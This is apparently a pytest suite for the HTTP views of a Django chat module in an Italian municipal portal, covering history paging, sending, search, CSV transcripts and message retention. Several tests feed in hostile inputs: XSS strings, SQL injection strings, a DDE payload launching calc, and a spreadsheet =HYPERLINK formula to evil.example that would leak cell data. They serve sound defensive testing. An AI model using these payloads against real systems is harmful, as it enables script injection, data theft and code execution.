"""The chat's HTTP views: the room page, its history, the fallback send without
JavaScript, the rooms list, search, the transcript and the retention rule.

Plain `db` tests: broadcasts wait for a commit that never comes, which is fine here (the
sockets have their own tests in test_consumer.py).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from forum.chat import services
from forum.chat.models import ChatMessage, ChatMute, ChatRoom
from forum.chat.services import message_delete, message_edit, message_post, read_mark
from portal.enti.models import MembershipRole
from tests.factories import EnteFactory, MembershipFactory, UserFactory

pytestmark = pytest.mark.django_db

MODEL_BACKEND = "django.contrib.auth.backends.ModelBackend"
OLDER_BUTTON = "Mostra i messaggi precedenti"
# The room page, whatever the number of messages in it (session, user, the access scope,
# the room, a page of history with its authors, presence, the base template).
ROOM_PAGE_MAX_QUERIES = 20
ROOMS_LIST_MAX_QUERIES = 15


# --- Fixtures and helpers -------------------------------------------------------------------------


@pytest.fixture
def comune(db):
    return EnteFactory(name="Comune di Altamura")


@pytest.fixture
def room(comune, area_factory):
    # Creating the area opens its room (post_save signal): room_for_area only fetches it.
    return services.room_for_area(area_factory(ente=comune))


@pytest.fixture
def anna(comune):
    return MembershipFactory(ente=comune, user__first_name="Anna", user__last_name="Greco").user


@pytest.fixture
def paolo(comune):
    return MembershipFactory(ente=comune, user__first_name="Paolo", user__last_name="Lupo").user


@pytest.fixture
def referente(comune):
    """The body's referent: moderates the body's room."""
    return MembershipFactory(
        ente=comune,
        role=MembershipRole.REFERENTE,
        user__first_name="Rita",
        user__last_name="Referente",
    ).user


@pytest.fixture
def stranger(db):
    return UserFactory(first_name="Ugo", last_name="Esterno")


@pytest.fixture
def as_user(client):
    def log_in(user):
        client.force_login(user, backend=MODEL_BACKEND)
        return client

    return log_in


def say(room, user, body, client_id=None):
    """Post as `user` through the service (the rate limit is not what these tests are
    about: its counter is reset before each message)."""
    cache.clear()
    client_id = client_id or f"test-{ChatMessage.objects.count():06d}-{user.pk}"
    message, created = message_post(room=room, user=user, body=body, client_id=client_id)
    assert created
    return message


def say_many(room, authors, count, template="Messaggio {n:03d}"):
    """`count` messages, the authors taking turns (so that authors are many, not one)."""
    return [say(room, authors[n % len(authors)], template.format(n=n)) for n in range(1, count + 1)]


def room_url(room, suffix=""):
    return f"/chat/stanze/{room.pk}/{suffix}"


def shown_seqs(html):
    return [
        int(seq) for seq in re.findall(r'<li class="chat-message[^"]*"[^>]*data-seq="(\d+)"', html)
    ]


def alerts(html):
    return re.findall(r'<div class="alert alert-[a-z]+">(.*?)</div>', html, re.DOTALL)


def queries_for(client, path):
    client.get(path)  # warm up: what is read once per process (site, content types)
    with CaptureQueriesContext(connection) as context:
        response = client.get(path)
    assert response.status_code == 200
    return len(context.captured_queries)


def transcript_rows(client, room):
    response = client.get(room_url(room, "trascrizione.csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


# --- The room page --------------------------------------------------------------------------------


def test_the_room_page_shows_the_last_50_messages_oldest_first(as_user, room, anna, paolo):
    say_many(room, [anna, paolo], 60)

    response = as_user(anna).get(room_url(room))

    html = response.content.decode()
    assert response.status_code == 200
    assert shown_seqs(html) == list(range(11, 61))
    assert "Messaggio 010" not in html
    assert html.index("Messaggio 011") < html.index("Messaggio 060")
    assert OLDER_BUTTON in html
    assert 'data-before="11"' in html


@pytest.mark.parametrize("count", [0, 1, 50])
def test_the_older_messages_button_is_shown_only_when_older_messages_exist(
    as_user, room, anna, count
):
    say_many(room, [anna], count)

    html = as_user(anna).get(room_url(room)).content.decode()

    assert shown_seqs(html) == list(range(1, count + 1))
    assert OLDER_BUTTON not in html


def test_the_room_page_shows_who_wrote_and_marks_deleted_messages(as_user, room, anna, paolo):
    say(room, anna, "Buongiorno a tutti")
    removed = say(room, paolo, "Messaggio da togliere")
    message_delete(room=room, user=paolo, seq=removed.seq)

    html = as_user(anna).get(room_url(room)).content.decode()

    assert "Anna Greco" in html
    assert "Buongiorno a tutti" in html
    assert "Messaggio da togliere" not in html
    assert "Messaggio eliminato" in html


def test_the_room_page_query_count_does_not_grow_with_the_messages(
    as_user, room, anna, paolo, referente, django_assert_max_num_queries
):
    """Regression guard: an N+1 on the history (one query per message or per author, e.g.
    if `select_related("author")` were dropped) would make the page cost grow with the
    room. 5 messages and 60 (of which 50 shown) must cost the same, within a fixed bound."""
    client = as_user(anna)
    authors = [anna, paolo, referente]
    say_many(room, authors, 5)
    with_five = queries_for(client, room_url(room))

    say_many(room, authors, 55, template="Altro messaggio {n:03d}")
    with django_assert_max_num_queries(ROOM_PAGE_MAX_QUERIES):
        response = client.get(room_url(room))
    with_sixty = queries_for(client, room_url(room))

    assert len(shown_seqs(response.content.decode())) == 50
    assert with_sixty == with_five
    assert with_five <= ROOM_PAGE_MAX_QUERIES


# --- History, page by page ------------------------------------------------------------------------


def test_the_history_pages_back_50_messages_at_a_time_oldest_first(as_user, room, anna, paolo):
    say_many(room, [anna, paolo], 120)
    client = as_user(anna)

    latest = client.get(room_url(room, "messaggi/")).json()
    middle = client.get(room_url(room, "messaggi/"), {"prima": "71"}).json()
    oldest = client.get(room_url(room, "messaggi/"), {"prima": "21"}).json()

    assert [m["seq"] for m in latest["messages"]] == list(range(71, 121))
    assert latest["more"] is True
    assert [m["seq"] for m in middle["messages"]] == list(range(21, 71))
    assert middle["more"] is True
    assert [m["seq"] for m in oldest["messages"]] == list(range(1, 21))
    assert oldest["more"] is False


def test_a_history_message_carries_its_author_and_escaped_html(as_user, room, anna):
    say(room, anna, "Vedi <b>qui</b>: https://www.example.it/doc", client_id="storia-0001")

    payload = as_user(anna).get(room_url(room, "messaggi/")).json()

    (message,) = payload["messages"]
    assert message["seq"] == 1
    assert message["author"] == "Anna Greco"
    assert message["client_id"] == "storia-0001"
    assert message["deleted"] is False
    assert "&lt;b&gt;qui&lt;/b&gt;" in message["html"]
    assert 'href="https://www.example.it/doc"' in message["html"]
    assert payload["more"] is False


def test_an_empty_room_has_an_empty_history(as_user, room, anna):
    payload = as_user(anna).get(room_url(room, "messaggi/")).json()

    assert payload == {"messages": [], "more": False}


@pytest.mark.parametrize(
    "before",
    [
        pytest.param("abc", id="letters"),
        pytest.param("-1", id="negative"),
        pytest.param("1.5", id="decimal"),
        pytest.param("1 OR 1=1", id="sql"),
        # str.isdigit() accepts it, int() does not: must be a 400, not a server error.
        pytest.param("²", id="superscript-two"),
    ],
)
def test_a_bad_history_cursor_is_a_400_with_an_italian_error(as_user, room, anna, before):
    say(room, anna, "Buongiorno")

    response = as_user(anna).get(room_url(room, "messaggi/"), {"prima": before})

    assert response.status_code == 400
    assert response.json() == {"error": "Parametro 'prima' non valido."}


@pytest.mark.parametrize("before", ["2", "1000", "9" * 30])
def test_a_history_cursor_past_the_end_gives_the_latest_messages(as_user, room, anna, before):
    say(room, anna, "Buongiorno")

    response = as_user(anna).get(room_url(room, "messaggi/"), {"prima": before})

    assert response.status_code == 200
    assert [m["seq"] for m in response.json()["messages"]] == [1]


def test_a_deleted_message_appears_in_the_history_without_its_text(as_user, room, anna, referente):
    say(room, anna, "Testo riservato da cancellare")
    say(room, anna, "Questo resta")
    message_delete(room=room, user=referente, seq=1)

    response = as_user(anna).get(room_url(room, "messaggi/"))

    first, second = response.json()["messages"]
    assert (first["seq"], first["deleted"], first["html"]) == (1, True, "")
    assert (second["seq"], second["deleted"]) == (2, False)
    assert "Testo riservato" not in response.content.decode()


def test_the_history_is_only_read_not_written(as_user, room, anna):
    response = as_user(anna).post(room_url(room, "messaggi/"))

    assert response.status_code == 405


# --- Sending without JavaScript -------------------------------------------------------------------


def send(client, room, body, client_id="invio-00000001", follow=False):
    return client.post(
        room_url(room, "invia/"), {"body": body, "client_id": client_id}, follow=follow
    )


def test_a_posted_message_is_stored_and_the_sender_sent_back_to_the_room(as_user, room, anna):
    response = send(as_user(anna), room, "Ciao a tutti")

    assert response.status_code == 302
    assert response["Location"] == f"{room_url(room)}#messaggi-fine"
    stored = ChatMessage.objects.get(room=room)
    assert (stored.seq, stored.author, stored.body) == (1, anna, "Ciao a tutti")
    room.refresh_from_db()
    assert room.last_seq == 1


def test_a_repeated_post_with_the_same_client_id_is_stored_once(as_user, room, anna):
    client = as_user(anna)

    send(client, room, "Ciao a tutti", client_id="doppio-00000001")
    send(client, room, "Ciao a tutti", client_id="doppio-00000001")
    send(client, room, "Ciao di nuovo", client_id="doppio-00000002")

    assert list(ChatMessage.objects.filter(room=room).values_list("seq", "body")) == [
        (1, "Ciao a tutti"),
        (2, "Ciao di nuovo"),
    ]


@pytest.mark.parametrize(
    ("body", "error"),
    [
        pytest.param("", "Il messaggio è vuoto.", id="empty"),
        pytest.param("   \n\t ", "Il messaggio è vuoto.", id="only-blanks"),
        pytest.param("x" * 2001, "Il messaggio supera i 2000 caratteri.", id="2001-chars"),
    ],
)
def test_a_bad_message_is_refused_with_an_italian_error_and_not_stored(
    as_user, room, anna, body, error
):
    response = send(as_user(anna), room, body, follow=True)

    assert response.status_code == 200
    assert response.redirect_chain[0][1] == 302
    assert alerts(response.content.decode()) == [error]
    assert not ChatMessage.objects.filter(room=room).exists()


def test_a_message_of_exactly_2000_characters_is_accepted(as_user, room, anna):
    send(as_user(anna), room, "x" * 2000)

    assert len(ChatMessage.objects.get(room=room).body) == 2000


def test_a_bad_client_id_is_refused_and_nothing_stored(as_user, room, anna):
    response = send(as_user(anna), room, "Ciao", client_id="<x>", follow=True)

    assert alerts(response.content.decode()) == ["Messaggio non valido."]
    assert not ChatMessage.objects.filter(room=room).exists()


def test_a_muted_user_is_told_until_when_and_nothing_is_stored(as_user, room, anna, referente):
    until = timezone.now() + timedelta(hours=2)
    ChatMute.objects.create(room=room, user=anna, until=until, created_by=referente)

    response = send(as_user(anna), room, "Posso parlare?", follow=True)

    (alert,) = alerts(response.content.decode())
    assert alert.startswith("Un moderatore ti ha silenziato in questa stanza fino al ")
    assert timezone.localtime(until).strftime("%H:%M") in alert
    assert not ChatMessage.objects.filter(room=room).exists()


def test_an_expired_mute_no_longer_silences(as_user, room, anna, referente):
    ChatMute.objects.create(
        room=room, user=anna, until=timezone.now() - timedelta(minutes=1), created_by=referente
    )

    send(as_user(anna), room, "Di nuovo qui")

    assert ChatMessage.objects.get(room=room).body == "Di nuovo qui"


def test_hostile_html_is_stored_as_written_and_rendered_inert(as_user, room, anna):
    hostile = '<script>alert(1)</script><img src=x onerror="alert(2)"> <a href="javascript:x">y</a>'
    client = as_user(anna)

    send(client, room, hostile)
    html = client.get(room_url(room)).content.decode()

    assert ChatMessage.objects.get(room=room).body == hostile
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert '<a href="javascript:' not in html


def test_an_outsider_cannot_post_and_nothing_is_stored(as_user, room, stranger):
    response = send(as_user(stranger), room, "Entro lo stesso")

    assert response.status_code == 403
    assert not ChatMessage.objects.filter(room=room).exists()


def test_sending_needs_a_post(as_user, room, anna):
    assert as_user(anna).get(room_url(room, "invia/")).status_code == 405


# --- The rooms list -------------------------------------------------------------------------------


def unread_badge(html, room):
    """The unread count shown next to the room's link, or None."""
    link = re.search(rf'<a class="list-item" href="{room_url(room)}">(.*?)</a>', html, re.DOTALL)
    assert link, "room not listed"
    badge = re.search(r'<span class="badge[^"]*">(\d+)<span class="visually-hidden">', link[1])
    return int(badge[1]) if badge else None


def test_the_rooms_list_shows_what_is_unread(as_user, room, anna, paolo):
    lobby = services.project_room()
    for n in range(3):
        say(room, paolo, f"Novità {n}")
    say(lobby, paolo, "Benvenuti nella sala comune")
    read_mark(room=room, user=anna, seq=1)

    html = as_user(anna).get("/chat/").content.decode()

    assert unread_badge(html, room) == 2
    assert unread_badge(html, lobby) == 1
    assert '2<span class="visually-hidden"> messaggi non letti</span>' in html


def test_a_room_read_to_the_end_shows_no_unread_count(as_user, room, anna, paolo):
    for n in range(3):
        say(room, paolo, f"Novità {n}")
    read_mark(room=room, user=anna, seq=3)

    html = as_user(anna).get("/chat/").content.decode()

    assert unread_badge(html, room) is None


def test_the_rooms_list_query_count_does_not_grow_with_the_rooms(
    as_user, area_factory, anna, comune, django_assert_max_num_queries
):
    """Regression guard: unread counts are computed in the same query as the rooms (no
    query per room), and the list reads each area once."""
    client = as_user(anna)
    poster = UserFactory(is_superuser=True)  # may write in every room
    first = services.room_for_area(area_factory(ente=comune))
    say(first, poster, "Ciao")
    with_one_area = queries_for(client, "/chat/")

    for _n in range(5):
        other = EnteFactory()
        MembershipFactory(ente=other, user=anna)
        extra_room = services.room_for_area(area_factory(ente=other))
        say(extra_room, poster, "Ciao")
    with django_assert_max_num_queries(ROOMS_LIST_MAX_QUERIES):
        response = client.get("/chat/")
    with_six_areas = queries_for(client, "/chat/")

    assert len(re.findall(r'href="/chat/stanze/\d+/"', response.content.decode())) == 6
    assert with_six_areas == with_one_area


# --- Search ---------------------------------------------------------------------------------------


def results(html):
    return re.findall(r'<span class="chat-body">(.*?)</span>\s*</li>', html, re.DOTALL)


def test_search_finds_matching_messages_newest_first_but_not_deleted_ones(
    as_user, room, anna, paolo
):
    say(room, anna, "Gli indicatori del primo trimestre")
    say(room, paolo, "Pranzo alle 13?")
    removed = say(room, paolo, "Indicatori sbagliati, cancello")
    say(room, anna, "Nuovi INDICATORI pubblicati")
    message_delete(room=room, user=paolo, seq=removed.seq)

    response = as_user(anna).get(room_url(room, "cerca/"), {"q": "indicatori"})

    html = response.content.decode()
    assert response.status_code == 200
    assert results(html) == ["Nuovi INDICATORI pubblicati", "Gli indicatori del primo trimestre"]
    assert "2 messaggi trovati" in html
    assert "cancello" not in html


def test_search_says_when_nothing_is_found(as_user, room, anna):
    say(room, anna, "Buongiorno")

    html = as_user(anna).get(room_url(room, "cerca/"), {"q": "indicatori"}).content.decode()

    assert "Nessun messaggio trovato" in html
    assert results(html) == []


@pytest.mark.parametrize("query", ["i", " i "])
def test_a_too_short_search_shows_the_form_error_and_no_results(as_user, room, anna, query):
    say(room, anna, "Gli indicatori del trimestre")

    response = as_user(anna).get(room_url(room, "cerca/"), {"q": query})

    html = response.content.decode()
    assert response.status_code == 200
    assert "Assicurati che questo valore contenga almeno 2 caratteri" in html
    assert results(html) == []
    assert "messaggi trovati" not in html


@pytest.mark.parametrize(
    "query",
    [
        pytest.param("' OR 1=1 --", id="sql-injection"),
        pytest.param("%", id="percent"),
        pytest.param("_", id="underscore"),
        pytest.param("%%", id="two-percents"),
        pytest.param("__", id="two-underscores"),
        pytest.param("\\%", id="backslash-percent"),
        pytest.param("<script>alert(1)</script>", id="html"),
        pytest.param("x" * 500, id="500-chars"),
    ],
)
def test_hostile_searches_answer_normally_and_match_nothing(as_user, room, anna, query):
    """LIKE wildcards are matched literally: `%%` or `__` must not list every message."""
    say(room, anna, "Gli indicatori del trimestre")
    say(room, anna, "Pranzo alle 13")

    response = as_user(anna).get(room_url(room, "cerca/"), {"q": query})

    html = response.content.decode()
    assert response.status_code == 200
    assert results(html) == []
    assert "<script>alert(1)" not in html


def test_search_matches_wildcard_characters_literally(as_user, room, anna):
    say(room, anna, "Sconto del 10% sugli indicatori")
    say(room, anna, "Sconto del 10 sugli indicatori")
    say(room, anna, "file_finale.pdf")
    say(room, anna, "file finale.pdf")
    client = as_user(anna)

    percent = client.get(room_url(room, "cerca/"), {"q": "0%"}).content.decode()
    underscore = client.get(room_url(room, "cerca/"), {"q": "e_f"}).content.decode()

    assert results(percent) == ["Sconto del 10% sugli indicatori"]
    assert results(underscore) == ["file_finale.pdf"]


# --- The transcript -------------------------------------------------------------------------------


def test_the_transcript_is_a_csv_with_an_italian_header_and_one_row_per_message(
    as_user, room, anna, paolo, referente
):
    say(room, anna, "Buongiorno, iniziamo")
    say(room, paolo, "=cmd|' /C calc'!A0")
    say(room, anna, "Da cancellare")
    say(room, paolo, "Primo testo")
    message_delete(room=room, user=referente, seq=3)
    message_edit(room=room, user=paolo, seq=4, body="Testo corretto")
    client = as_user(referente)

    response = client.get(room_url(room, "trascrizione.csv"))
    rows = transcript_rows(client, room)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="chat-{room.pk}.csv"'
    header, *messages = rows
    assert header == ["numero", "data e ora", "autore", "testo", "modificato", "eliminato"]
    assert [row[0] for row in messages] == ["1", "2", "3", "4"]
    assert [row[2] for row in messages] == ["Anna Greco", "Paolo Lupo", "Anna Greco", "Paolo Lupo"]
    assert messages[0][3:] == ["Buongiorno, iniziamo", "", ""]
    assert messages[1][3] == "'=cmd|' /C calc'!A0"  # a spreadsheet will not run it
    assert messages[2][3:] == ["", "", "sì"]
    assert messages[3][3:] == ["Testo corretto", "sì", ""]
    for row in messages:
        assert re.fullmatch(r"\d{2}/\d{2}/\d{4} \d{2}:\d{2}:\d{2}", row[1])


@pytest.mark.parametrize("body", ["=1+1", "+1+1", "-1+1", "@SUM(A1)"])
def test_every_formula_start_is_neutralised_in_the_transcript(as_user, room, anna, referente, body):
    say(room, anna, body)

    rows = transcript_rows(as_user(referente), room)

    assert rows[1][3] == f"'{body}"


def test_an_author_name_cannot_inject_a_formula_into_the_transcript(
    as_user, room, comune, referente
):
    """Names are typed by their owners on the profile page: a cell is a cell."""
    mallory = MembershipFactory(
        ente=comune,
        user__first_name='=HYPERLINK("https://evil.example/?x="&A1',
        user__last_name=")",
    ).user
    say(room, mallory, "Buongiorno")

    rows = transcript_rows(as_user(referente), room)

    assert not rows[1][2].startswith(("=", "+", "-", "@"))


def test_a_room_member_who_does_not_moderate_cannot_download_the_transcript(as_user, room, anna):
    say(room, anna, "Buongiorno")

    assert as_user(anna).get(room_url(room, "trascrizione.csv")).status_code == 403


# --- Retention ------------------------------------------------------------------------------------


def set_retention(client, room, days, follow=True):
    return client.post(room_url(room, "conservazione/"), {"days": days}, follow=follow)


def test_a_moderator_sets_how_long_messages_are_kept(as_user, room, referente):
    response = set_retention(as_user(referente), room, "30")

    room.refresh_from_db()
    assert room.retention_days == 30
    assert response.redirect_chain == [(room_url(room), 302)]
    assert alerts(response.content.decode()) == ["Regola di conservazione aggiornata."]


def test_the_room_page_offers_the_retention_form_only_to_moderators(as_user, room, anna, referente):
    member_page = as_user(anna).get(room_url(room)).content.decode()
    moderator_page = as_user(referente).get(room_url(room)).content.decode()

    assert "conservazione/" not in member_page
    assert "trascrizione.csv" not in member_page
    assert f'action="{room_url(room, "conservazione/")}"' in moderator_page
    assert room_url(room, "trascrizione.csv") in moderator_page


@pytest.mark.parametrize(
    ("days", "error"),
    [
        pytest.param("0", "Indicare almeno 1 giorno.", id="zero"),
        pytest.param("-1", "Indicare almeno 1 giorno.", id="negative"),
        pytest.param("5000", "Indicare al massimo 3650 giorni.", id="too-many"),
        pytest.param("abc", "Indicare un numero di giorni.", id="not-a-number"),
    ],
)
def test_a_bad_retention_is_refused_with_an_italian_error(as_user, room, referente, days, error):
    ChatRoom.objects.filter(pk=room.pk).update(retention_days=90)

    response = set_retention(as_user(referente), room, days)

    room.refresh_from_db()
    assert room.retention_days == 90
    assert alerts(response.content.decode()) == [error]


def test_an_empty_retention_keeps_messages_forever(as_user, room, referente):
    ChatRoom.objects.filter(pk=room.pk).update(retention_days=90)

    set_retention(as_user(referente), room, "")

    room.refresh_from_db()
    assert room.retention_days is None


def test_a_member_who_does_not_moderate_cannot_change_the_retention(as_user, room, anna):
    response = set_retention(as_user(anna), room, "30", follow=False)

    assert response.status_code == 404
    room.refresh_from_db()
    assert room.retention_days is None


def test_an_outsider_cannot_change_the_retention(as_user, room, stranger):
    response = set_retention(as_user(stranger), room, "30", follow=False)

    assert response.status_code == 403
    room.refresh_from_db()
    assert room.retention_days is None


def age(messages, days):
    ChatMessage.objects.filter(pk__in=[m.pk for m in messages]).update(
        created_at=timezone.now() - timedelta(days=days)
    )


def test_purging_deletes_only_the_messages_older_than_the_retention(
    area_factory, room, anna, paolo
):
    old = say_many(room, [anna, paolo], 3, template="Vecchio {n}")
    just_inside = say(room, anna, "Di 29 giorni fa")
    recent = say(room, paolo, "Di oggi")
    age(old, days=31)
    age([just_inside], days=29)
    kept_forever = services.room_for_area(area_factory(ente=EnteFactory()))
    staff_message = say(kept_forever, UserFactory(is_superuser=True), "Vecchissimo")
    age([staff_message], days=4000)
    services.retention_set(room=room, user=UserFactory(is_superuser=True), days=30)

    purged = services.purge_expired_messages(now=timezone.now())

    assert purged == 3
    assert list(room.messages.values_list("pk", flat=True)) == [just_inside.pk, recent.pk]
    assert kept_forever.messages.count() == 1


def test_sequence_numbers_keep_growing_after_a_purge(as_user, room, anna):
    messages = say_many(room, [anna], 4)
    age(messages, days=40)
    ChatRoom.objects.filter(pk=room.pk).update(retention_days=30)
    services.purge_expired_messages(now=timezone.now())

    send(as_user(anna), room, "Dopo la pulizia")

    assert list(room.messages.values_list("seq", flat=True)) == [5]
    assert room.messages.get().body == "Dopo la pulizia"


def test_after_a_purge_nothing_older_is_offered(as_user, room, anna):
    """Purged messages are gone: the page must not offer a button to load them, and the
    history must not say there is more."""
    messages = say_many(room, [anna], 10)
    age(messages[:4], days=40)
    ChatRoom.objects.filter(pk=room.pk).update(retention_days=30)
    services.purge_expired_messages(now=timezone.now())
    client = as_user(anna)

    html = client.get(room_url(room)).content.decode()
    history = client.get(room_url(room, "messaggi/")).json()

    assert shown_seqs(html) == list(range(5, 11))
    assert [m["seq"] for m in history["messages"]] == list(range(5, 11))
    assert OLDER_BUTTON not in html
    assert history["more"] is False


# --- The area shortcut ----------------------------------------------------------------------------


def test_the_area_shortcut_takes_a_member_to_the_areas_room(as_user, room, anna):
    response = as_user(anna).get(f"/chat/area/{room.area_id}/")

    assert response.status_code == 302
    assert response["Location"] == room_url(room)


def test_the_area_shortcut_refuses_an_outsider(as_user, room, stranger):
    assert as_user(stranger).get(f"/chat/area/{room.area_id}/").status_code == 403


def test_the_area_shortcut_sends_an_anonymous_visitor_to_log_in(client, room):
    response = client.get(f"/chat/area/{room.area_id}/")

    assert response.status_code == 302
    assert response["Location"].startswith("/account/login/?next=")


def test_the_project_room_shortcut_takes_anyone_logged_in_to_the_common_room(as_user, stranger):
    response = as_user(stranger).get("/chat/sala-comune/")

    assert response.status_code == 302
    assert response["Location"] == room_url(services.project_room())
